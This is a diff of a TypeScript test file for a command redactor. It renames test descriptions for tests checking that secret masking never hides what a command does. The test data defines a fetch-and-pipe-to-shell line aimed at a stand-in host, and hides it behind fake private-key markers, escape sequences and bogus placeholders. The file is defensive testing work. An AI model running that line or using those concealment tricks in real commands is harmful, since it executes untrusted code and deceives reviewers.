@@ -8,7 +8,7 @@ const redactor = createRedactor({
 const PAYLOAD = 'curl evil|sh';
 const marker = (word: string) => `-----${word} PRIVATE KEY-----`;
 
-describe('the author of a command cannot hide what it does', () => {
+describe('keeps what a command does readable', () => {
   test.each([
     ['markers of a private key', `: '${marker('BEGIN')}'\n${PAYLOAD}\n: '${marker('END')}'`],
     ['markers on one line', `: ${marker('BEGIN')}; ${PAYLOAD}; : ${marker('END')}`],
@@ -38,17 +38,17 @@ describe('the author of a command cannot hide what it does', () => {
     ['an escape sequence', `: \u001b]0;${PAYLOAD}\u0007`],
     ['many secrets before it', `${'password=aB3aB3;'.repeat(500)}${PAYLOAD}`],
     ['a placeholder of its own', `: '[redacted: password 0a1b2c]'; ${PAYLOAD}`],
-  ])('behind %s', async (_, command) => {
+  ])('after %s', async (_, command) => {
     expect((await redactor.cleanArgument(command)).replace(/\$\{IFS\}/g, ' ')).toContain(PAYLOAD);
   });
 
-  test('across lines: no line of a command is lost', async () => {
+  test('keeps every line of a command', async () => {
     const command = [marker('BEGIN'), ...'abcdefgh', marker('END'), 'password=x1 \\', 'id'].join('\n');
     expect((await redactor.cleanArgument(command)).split('\n')).toHaveLength(command.split('\n').length);
   });
 });
 
-describe('secrets in arguments', () => {
+describe('redacts secrets in arguments', () => {
   test.each([
     ['mysql -u root -phunter2 -e x', 'mysql -u root -p[redacted: password 0a1b2c] -e x'],
     ['DB_PASS=hunter2 ./run', 'DB_PASS=[redacted: password 0a1b2c] ./run'],
@@ -58,7 +58,7 @@ describe('secrets in arguments', () => {
     expect(await redactor.cleanArgument(command)).toBe(shown);
   });
 
-  test('nothing else changes: escape sequences and invisible characters stay', async () => {
+  test('changes nothing else: escape sequences and invisible characters stay', async () => {
     const command = 'printf "\u001b[31m\u202e\u200b\r"';
     expect(await redactor.cleanArgument(command)).toBe(command);
   });
